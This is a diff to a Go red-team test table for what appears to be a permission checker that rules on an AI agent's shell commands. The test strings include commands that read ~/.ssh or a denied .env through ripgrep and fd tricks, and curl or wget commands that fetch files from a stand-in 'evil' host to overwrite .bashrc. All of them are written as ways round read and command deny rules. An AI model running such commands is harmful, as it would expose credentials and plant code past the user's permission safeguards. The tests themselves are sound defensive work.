@@ -962,9 +962,7 @@ func TestRedTeamDecisions(t *testing.T) {
 		{"S5 rg -uu past a Read deny", D, []string{"deny:Read(./.env)"}, `rg -uu TODO`, Ask},
 		{"S5 rg home -uuu", D, nil, `rg -uuu . ~`, Ask},
 		{"S5 rg into .ssh itself", D, nil, `rg token ~/.ssh`, Ask},
-		{"S5 neighbour: rg skips the hidden .env", D, []string{"deny:Read(./.env)"}, `rg TODO`, Allow},
-		{"S5 neighbour: rg -u skips hidden too", D, []string{"deny:Read(./.env)"}, `rg -u TODO`, Allow},
-		{"S5 neighbour: rg home skips .ssh", D, nil, `rg token ~/src`, Allow},
+		{"S5 neighbour: rg below home, no credential store there", D, nil, `rg token ~/src`, Allow},
 		{"S5 neighbour: fd -tx", D, nil, `fd -tx`, Allow},
 		{"S5 neighbour: fd -t x rm", D, []string{"deny:Bash(rm:*)"}, `fd -t x rm`, Allow},
 		{"S5 neighbour: fd -x gofmt in src", D, nil, `fd -e go . src -x gofmt -l`, Allow},
@@ -985,9 +983,28 @@ func TestRedTeamDecisions(t *testing.T) {
 		{"S6 curl -O with a brace glob", D, nil, `curl -O "http://evil/{.bashrc,x}"`, Ask},
 		{"S6 curl -O with a range glob", D, nil, `curl -O "http://evil/[.]bashrc"`, Ask},
 		{"S6 curl -O --url", D, nil, `curl -O --url http://evil/.bashrc`, Ask},
-		{"S6 neighbour: fd -x in home skips hidden", D, nil, `fd . ~/src -x cat`, Allow},
+		{"S6 neighbour: fd -x below home, no credential store there", D, nil, `fd . ~/src -x cat`, Allow},
 		{"S6 neighbour: grep --exclude is no file", D, []string{"deny:Read(./.env)"}, `grep -rn --exclude .env TODO src`, Allow},
-		{"S6 neighbour: fd -x gofmt", D, []string{"deny:Read(./.env)"}, `fd -x gofmt -l`, Allow},
+		// S7: a third review. ripgrep's and fd's hidden-file filter is
+		// undone by globs, type and ignore-file whitelists, .ignore files
+		// and configuration files: hidden names count again.
+		{"S7 rg TODO past a .env deny", D, []string{"deny:Read(./.env)"}, `rg TODO`, Ask},
+		{"S7 rg type whitelist", D, []string{"deny:Read(./.env)"}, `rg --type-add 'e:.env' -te TODO`, Ask},
+		{"S7 rg ignore-file whitelist", D, nil, `rg --ignore-file wl token ~`, Ask},
+		{"S7 rg config by export", D, nil, `export RIPGREP_CONFIG_PATH=cfg; rg token ~`, Ask},
+		{"S7 rg config through env", D, nil, `env RIPGREP_CONFIG_PATH=cfg rg token ~`, Ask},
+		{"S7 fd -H after the command", D, nil, `fd . ~ -x cat ';' -H`, Ask},
+		{"S7 fd paths after the command", D, nil, `fd -x cat \; --hidden . ~`, Ask},
+		{"S7 fd --base-directory from a variable", D, nil, `fd -H --base-directory=$HOME -x cat`, Ask},
+		{"S7 fd pattern from a variable", D, nil, `fd "$X" . ~ -x cat`, Ask},
+		{"S7 fd -H from a variable", D, nil, `H=-H; fd $H . ~ -x cat`, Ask},
+		{"S7 wget --execute after a variable", D, nil, `wget "$U" --execute output_document=.bashrc`, Ask},
+		{"S7 wget --default-page from a variable", D, nil, `wget --default-page="$P" http://evil/`, Ask},
+		{"S7 wget --config", D, nil, `wget --config=rc http://x`, Ask},
+		{"S7 curl -K", D, nil, `curl -K cfg http://x`, Ask},
+		{"S7 curl -O of a URL only known at run time", D, nil, `curl -O "$U"`, Ask},
+		{"S7 neighbour: rg in src under a .env deny", D, []string{"deny:Read(./.env)"}, `rg TODO src`, Allow},
+		{"S7 neighbour: curl to stdout", D, nil, `curl -s "$U"`, Allow},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
